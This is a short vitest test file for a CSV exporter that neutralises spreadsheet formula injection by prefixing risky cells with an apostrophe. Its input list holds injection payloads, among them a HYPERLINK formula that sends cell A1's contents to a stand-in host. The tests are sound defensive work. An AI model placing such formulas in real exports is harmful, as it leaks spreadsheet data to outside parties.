import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { spreadsheetCsv } from '@main/core/exports/spreadsheet-csv';

describe('spreadsheet-safe CSV', () => {
  it('writes a cell that a spreadsheet would run as a formula with a leading apostrophe, so it shows as text', () => {
    const risky = ['=HYPERLINK("http://x.example/?"&A1,"Open")', '+1 212 555 0147', '-2+3', '@SUM(A1:A9)', '\tcmd', '\rcmd', '\uFF1D1+1'];
    const [row] = parse(spreadsheetCsv([risky])) as string[][];
    expect(row).toEqual(risky.map((v) => `'${v}`));
  });

  it('leaves ordinary text, numbers and negative numbers as they are', () => {
    const [row] = parse(spreadsheetCsv([['Archer, Ann', 'a=b', 42, -7, '2025-03-09', '']])) as string[][];
    expect(row).toEqual(['Archer, Ann', 'a=b', '42', '-7', '2025-03-09', '']);
  });
});
